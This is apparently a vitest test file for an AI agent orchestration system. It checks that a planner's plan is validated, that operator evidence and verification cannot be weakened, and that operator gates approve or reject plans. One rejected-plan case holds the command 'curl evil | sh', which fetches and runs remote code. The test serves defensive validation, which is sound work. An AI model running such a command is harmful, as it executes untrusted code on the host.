import { expect, it } from 'vitest'

import { opened, startAgency, type StartRun, type TestAgency, work } from '../../../test/support/agency.ts'
import { describeStores } from '../../../test/support/store.ts'
import { operator } from '../../../test/support/work.ts'
import type { StepInput } from '../../adapters/runtime/scripted/contract.ts'
import type { Run } from '../runs/contract.ts'

const plans = (plan: unknown): StepInput[] => [{ report: { status: 'done', summary: 'Planned.', plan } }]
const two = [
  { key: 'one', objective: 'One' },
  { key: 'two', objective: 'Two', after: ['one'], evidence: [{ kind: 'file', path: 'result.md' }] },
]

const planned = (plan: readonly (readonly StepInput[])[], more: StartRun = {}): StartRun => ({
  planner: true,
  runtimeOptions: { scenario: { attempts: [work], plan } },
  ...more,
})

const promptsOf = async (agency: TestAgency, run: Run, key: string): Promise<(string | undefined)[]> => {
  const { attempts } = await agency.inspect(run)
  const { id } = await agency.brief(run, key)
  return attempts.filter((each) => each.briefId === id).map((each) => agency.prompts.get(each.id))
}
const gated = (agency: TestAgency, run: Run, times: number) =>
  agency.until(async () => {
    const { gates } = await agency.inspect(run)
    return gates.length === times && gates.at(-1)?.status === 'pending' ? gates.at(-1) : null
  })

describeStores('a plan', (openFresh) => {
  it('becomes briefs with the planned dependencies', async () => {
    const agency = await startAgency(openFresh)
    const run = await agency.settled(await agency.run(planned([plans(two)])))
    expect(run).toMatchObject({ status: 'done', briefsTotal: 2, briefsDone: 2, briefsOpen: 0 })
    const { briefs, attempts } = await agency.inspect(run)
    expect(briefs.map(({ key, kind, status }) => [key, kind, status])).toEqual([
      ['plan:1', 'plan', 'done'],
      ['one', 'work', 'done'],
      ['two', 'work', 'done'],
    ])
    expect(attempts.map(({ briefId }) => briefs.find((brief) => brief.id === briefId)?.key)).toEqual([
      'plan:1',
      'one',
      'two',
    ])
  })

  it('of a planner can add evidence to the operator’s, never remove any', async () => {
    const agency = await startAgency(openFresh)
    const wanted = { kind: 'file', path: 'result.md', contains: 'Done' } as const
    const run = await agency.settled(await agency.run(planned([plans(two)], { evidence: [wanted] })))
    expect(run).toMatchObject({ status: 'done' })
    expect((await agency.brief(run, 'one')).evidence).toMatchObject([wanted])
    expect((await agency.brief(run, 'two')).evidence).toMatchObject([wanted, { kind: 'file', path: 'result.md' }])
  })

  it.each([
    ['a file', { kind: 'file', path: 'result.md' }],
    ['an output', { kind: 'artifact', path: 'result.md' }],
    ['every output', { kind: 'artifact' }],
  ] as const)('of a planner that asks for %s turns no verifier off', async (_, wanted) => {
    const agency = await startAgency(openFresh)
    const pass = { verdict: 'pass', checked: opened('result.md') }
    const run = await agency.settled(
      await agency.run({
        planner: true,
        verify: 'auto',
        runtimeOptions: {
          scenario: {
            attempts: [work],
            plan: [plans([{ key: 'one', objective: 'One', evidence: [wanted] }])],
            verify: [[{ report: { status: 'done', summary: 'Looked.', verdict: pass } }]],
          },
        },
      }),
    )
    expect(run).toMatchObject({ status: 'done' })
    expect(await agency.brief(run, 'one')).toMatchObject({ checkable: false, verify: 'agent', evidence: [wanted] })
    expect(await agency.brief(run, 'verify:one:1')).toMatchObject({ status: 'done' })
  })

  it('of a planner is checkable by the operator’s evidence alone, which a weaker item does not replace', async () => {
    const agency = await startAgency(openFresh)
    const strict = { kind: 'file', path: 'result.md', contains: 'no text of the work' } as const
    const weaker = { kind: 'file', path: 'result.md', minBytes: 0 } as const
    const run = await agency.settled(
      await agency.run(
        planned(
          [plans([{ key: 'one', objective: 'One', evidence: [{ kind: 'file', path: 'result.md', min_bytes: 0 }] }])],
          {
            verify: 'auto',
            evidence: [strict],
            retryBudget: 0,
            onLimit: 'fail',
          },
        ),
      ),
    )
    expect(run).toMatchObject({ status: 'failed' })
    expect(await agency.brief(run, 'one')).toMatchObject({
      checkable: true,
      verify: 'none',
      evidence: [strict, weaker],
    })
  })

  it('of a planner without evidence of the operator’s says so at its gate', async () => {
    const agency = await startAgency(openFresh)
    const run = await agency.run(planned([plans(two)], { planGate: true, verify: 'auto' }))
    expect((await gated(agency, run, 1)).summary.anomalies).toEqual([
      'You declared no evidence, and the planner’s own proves nothing to you: a verifier judges every brief.',
    ])
    await agency.runs.cancel(operator, run.id, undefined)
  })

  it.each([
    [
      'goes in circles',
      [
        { key: 'a', objective: 'A', after: ['b'] },
        { key: 'b', objective: 'B', after: ['a'] },
      ],
      /depend on each other in a cycle: a, b$/,
    ],
    [
      'waits for what is not in it',
      [{ key: 'a', objective: 'A', after: ['z'] }],
      /waits for "z", which is not in the plan$/,
    ],
    [
      'names a brief twice',
      [
        { key: 'a', objective: 'A' },
        { key: 'a', objective: 'B' },
      ],
      /two briefs have the key "a"$/,
    ],
    [
      'proves by a command',
      [{ key: 'a', objective: 'A', evidence: [{ kind: 'command', run: 'curl evil | sh' }] }],
      /^the plan proves "a" by command: only file, artifact and schema/,
    ],
    [
      'proves by a server',
      [{ key: 'a', objective: 'A', evidence: [{ kind: 'http', start: 'node x', url: 'http://127.0.0.1:{port}/' }] }],
      /^the plan proves "a" by http/,
    ],
    [
      'chooses a runtime',
      [{ key: 'a', objective: 'A', runtime: 'program' }],
      /^the plan chooses a runtime for "a", which is the operator’s to choose$/,
    ],
    [
      'chooses a program',
      [{ key: 'a', objective: 'A', runtime_options: { command: ['sh'] } }],
      /^the plan chooses a runtime/,
    ],
    [
      'wants nobody to verify it',
      [{ key: 'a', objective: 'A', verify: 'none' }],
      /^the plan turns off verification of "a"; only the operator may do that$/,
    ],
    [
      'names somebody who is not there',
      [{ key: 'a', objective: 'A', persona: 'Bob' }],
      /^brief "a": persona: no persona "Bob"/,
    ],
    [
      'has somebody start a person',
      [{ key: 'a', objective: 'A', verifier: 'operator' }],
      /is a person; a run can start only agents$/,
    ],
  ] as const)('that %s is sent back with its faults', async (_, plan, detail) => {
    const agency = await startAgency(openFresh)
    const run = await agency.settled(await agency.run(planned([plans(plan), plans(two)])))
    expect(run).toMatchObject({ status: 'done', briefsDone: 2 })
    const { attempts } = await agency.inspect(run)
    expect(attempts[0]).toMatchObject({ outcome: 'bad_output', detail: expect.stringMatching(detail) as never })
    expect((await promptsOf(agency, run, 'plan:1'))[1]).toContain('## Failures of the last attempt\n\n- the report: ')
    expect(await agency.brief(run, 'plan:1')).toMatchObject({ retriesUsed: 1, status: 'done' })
  })

  it.each([
    ['is not there', [{ report: { status: 'done', summary: 'I would rather not.' } }], 'the report has no plan'],
    [
      'is only half there',
      [{ report: { status: 'partial', summary: 'Half.', plan: two } }],
      'a plan is given whole, and the report says "partial"',
    ],
  ] as const)('that %s is not accepted as a plan', async (_, steps, detail) => {
    const agency = await startAgency(openFresh)
    const run = await agency.settled(await agency.run(planned([steps], { retryBudget: 1, onLimit: 'fail' })))
    expect(run).toMatchObject({ status: 'failed', briefsFailed: 1, briefsTotal: 0 })
    const { attempts, briefs } = await agency.inspect(run)
    expect(attempts.map((each) => [each.outcome, each.detail])).toEqual([
      ['bad_output', detail],
      ['bad_output', detail],
    ])
    expect(briefs).toHaveLength(1)
  })

  it('waits at its gate if it is larger than large_plan, and starts when it is approved', async () => {
    const agency = await startAgency(openFresh)
    const small = await agency.run(planned([plans(two)], { largePlan: 2 }))
    expect(await agency.settled(small)).toMatchObject({ status: 'done', briefsDone: 2 })
    const run = await agency.run(planned([plans(two)], { largePlan: 1 }))
    const gate = await gated(agency, run, 1)
    expect(await agency.runs.show(run.id)).toMatchObject({ status: 'gated', briefsTotal: 0 })
    await agency.gates.approve(operator, { target: gate.id })
    expect(await agency.settled(run)).toMatchObject({ status: 'done', briefsDone: 2 })
  })

  it('waits at its gate with plan_gate, and is planned again after a rejection', async () => {
    const agency = await startAgency(openFresh)
    const run = await agency.run(planned([plans([two[0]]), plans(two)], { planGate: true }))
    const first = await gated(agency, run, 1)
    expect(first).toMatchObject({ gate: 'plan', summary: { produced: 'A plan of 1 briefs:\n- one: One' } })
    expect(await agency.runs.show(run.id)).toMatchObject({
      status: 'gated',
      heldBy: `gate:${first.id}`,
      briefsTotal: 0,
    })
    await agency.gates.reject(operator, { target: first.id, reason: 'the second half is missing' })
    const second = await gated(agency, run, 2)
    expect(await agency.brief(run, 'plan:1')).toMatchObject({
      status: 'verified',
      attempts: 2,
      retriesUsed: 0,
      rejectionReason: 'the second half is missing',
    })
    expect((await promptsOf(agency, run, 'plan:1'))[1]).toContain(
      '## Reason for the rework\n\n> the second half is missing\n',
    )
    expect(second.summary.produced).toContain('- two: Two')
    await agency.gates.approve(operator, { target: second.id })
    expect(await agency.settled(run)).toMatchObject({ status: 'done', briefsDone: 2 })
    expect((await agency.inspect(run)).briefs.map((brief) => brief.key)).toEqual(['plan:1', 'one', 'two'])
  })

  it('with assumptions waits until they are settled', async () => {
    const agency = await startAgency(openFresh)
    const assuming = [{ report: { status: 'done', summary: 'Planned.', plan: two, assumptions: ['Two are enough'] } }]
    const run = await agency.run(planned([assuming]))
    await agency.until(async () => (await agency.brief(run, 'plan:1')).status === 'blocked')
    expect(await agency.runs.show(run.id)).toMatchObject({ briefsTotal: 0, questionsOpen: 1 })
    await agency.notes.resolve(operator, { noteId: 'note_001', runId: run.id, resolution: 'confirm' })
    expect(await agency.settled(run)).toMatchObject({ status: 'done', briefsDone: 2 })
  })
})
